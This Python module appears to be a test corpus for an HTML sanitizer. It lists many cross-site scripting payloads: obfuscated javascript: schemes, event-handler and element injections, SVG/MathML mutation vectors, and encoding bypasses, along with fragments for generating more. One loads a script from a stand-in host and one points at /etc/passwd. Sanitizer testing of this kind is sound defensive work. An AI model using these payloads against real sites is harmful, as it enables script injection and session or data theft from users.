"""Ways in which HTML was made to run what it should not: by element, by handler, by scheme, by reading it twice."""

from __future__ import annotations

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\0script:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)",
    "java&#0;script:alert(1)", "javascript\u200b:alert(1)", "\u3000javascript:alert(1)", "\xa0javascript:alert(1)",
    "&#0000106avascript:alert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://a/b", "file:///etc/passwd",
    "filesystem:x", "view-source:x", "feed:javascript:alert(1)", "jar:javascript:x", "about:blank", "intent:x#Intent;end",
    "javascript://a.example/%0aalert(1)", "javascript:/*--></title></style></textarea>*/alert(1)", "http:javascript:alert(1)",
    "//javascript:alert(1)", "\\\\x", "http://", "https:///", "http://[", "http://a:b:c/", "x:y",
)  # fmt: skip

_HANDLERS = (
    "<img src=x onerror=alert(1)>", "<img src=x:x onerror=alert(1)//", '<img/src="x"/onerror=alert(1)>', "<img src='x'onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>', "<body onload=alert(1)>", "<p/onmouseover=alert(1)>x", "<b\x0conclick=alert(1)>x</b>",
    "<b onclick\n=\nalert(1)>x</b>", "<details open ontoggle=alert(1)>x", "<a href=# onfocus=alert(1) autofocus>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>', '<p style="width:expression(alert(1))">x', "<b style=x:y>z</b>",
    "<input onfocus=alert(1) autofocus>", "<select onchange=alert(1)><option>x</select>", "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<isindex type=image src=1 onerror=alert(1)>", "<table background=javascript:alert(1)>", "<td background='javascript:x'>y",
    "<bgsound src=javascript:alert(1)>", "<br size=\"&{alert(1)}\">", "<layer src=//x></layer>", "<img lowsrc=javascript:x dynsrc=javascript:y>",
    "<img srcset='javascript:x 1x' src=y>", "<a ping=javascript:x href=/y>z</a>", "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<img src=x onerror\x00=alert(1)>", "<\x00img src=x onerror=alert(1)>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\" href=\"javascript:x\">y</a>", "<q cite=javascript:x>y</q>",
)  # fmt: skip

_ELEMENTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>", "<script\n>alert(1)</script >", "<<script>alert(1);//<</script>", "<script>alert(1)",
    "<script src=//x", "<script>a</script x>b", "</script><script>alert(1)</script>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href=//x>", "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{x:expression(alert(1))}</style>", "<frameset onload=alert(1)><frame src=x></frameset>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>", "<comment><img src=x onerror=alert(1)></comment>", "<listing>&lt;img onerror=alert(1) src=x></listing>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>", "<!---><img src=x onerror=alert(1)>", "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>", "<![CDATA[<!--]]><img src=x onerror=alert(1)>", "<?xml version='1.0'?><script>x</script>",
    "<?php <img src=x onerror=alert(1)> ?>", "<!DOCTYPE html><script>x</script>", "<!ELEMENT x><img src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1);</script -->", "</p style='x'><img src=x onerror=alert(1)>", "</ <script>alert(1)</script>", "<0<script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<html:script>x</html:script>", "<xss-x onclick=x>y</xss-x>",
    "<portal src=javascript:x>", "<slot onslotchange=x>", "<dialog open onclose=x>y</dialog>", "<keygen autofocus onfocus=x>",
)  # fmt: skip

_FOREIGN = (
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href='data:,alert(1)'/></svg>", "<svg/onload=alert(1)//",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>", "<svg><foreignObject><iframe src=javascript:x></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></style></title></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>", "<math href=javascript:alert(1)>x</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math><semantics><annotation-xml><style><img title='</style><img src onerror=alert(1)>'>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>", "<select><svg><style><img src=x onerror=alert(1)></style></svg></select>",
    "<table><style><td title='</style><img src=x onerror=alert(1)>'></table>", "<table><a href=x><table><img src=x onerror=alert(1)>", "<p><svg><p><img src=x onerror=alert(1)>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>y", "<a id=x><a id=x name=y href=cid:alert(1)>z", "<img name=getElementById><form name=body>",
    "<b><p><b><p><script>x</script>", "<a><table><a href=javascript:x>y</a></table></a>", "<h1><h1><svg></h1><style><x title='</style><img src onerror=x>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u017fcript>alert(1)</\u017fcript>", "<img src=x on\u212Aerror=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<a href='&#x6a;&#x61;&#x76;&#x61;script:alert(1)'>x</a>", "<img alt='`onerror=alert(1)' src=x>",
)  # fmt: skip

VECTORS = (
    *_HANDLERS, *_ELEMENTS, *_FOREIGN,
    *(template.format(scheme) for scheme in _SCHEMES for template in ('<a href="{}">x</a>', "<img src='{}' alt=x>", "<a href={}>x", '<q cite="{}">x</q>')),
)  # fmt: skip
"""The attacks, as HTML."""

PIECES = (
    "<", ">", "</", "/>", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?", "<!", "&", "&lt;", "&gt;", "&#", ";", '"', "'", "`", "=", " ", "\n", "\0", "\x0c",
    "<p>", "</p>", "<b>", "</b>", "<a href=", "<a href='http://x.example/'>", "</a>", "<img src=", "<img src=/x.png alt=", " onerror=alert(1)", " onload=x", " style=x",
    "javascript:", "data:", "http://x.example", "<svg>", "</svg>", "<math>", "</math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<script>", "</script>",
    "<title>", "</title>", "<textarea>", "</textarea>", "<noscript>", "</noscript>", "<xmp>", "</xmp>", "<template>", "</template>", "<iframe>", "</iframe>",
    "<table>", "</table>", "<tr>", "<td>", "</td>", "<caption>", "<tbody>", "<ul>", "<li>", "</ul>", "<dl>", "<dt>", "<dd>", "<h1>", "<h2>", "</h1>", "<pre>", "</pre>",
    "<ruby>", "<rt>", "<rp>", "</ruby>", "<details>", "<summary>", "</details>", "<figure>", "<figcaption>", "</figure>", "<blockquote>", "</blockquote>", "<br>", "</br>",
    "<hr>", "<select>", "<option>", "</select>", "<form>", "</form>", "<button>", "</button>", "<object>", "</object>", "<div>", "</div>", "<q>", "</q>", "<code>", "文",
)  # fmt: skip
"""What attacks are put together from."""
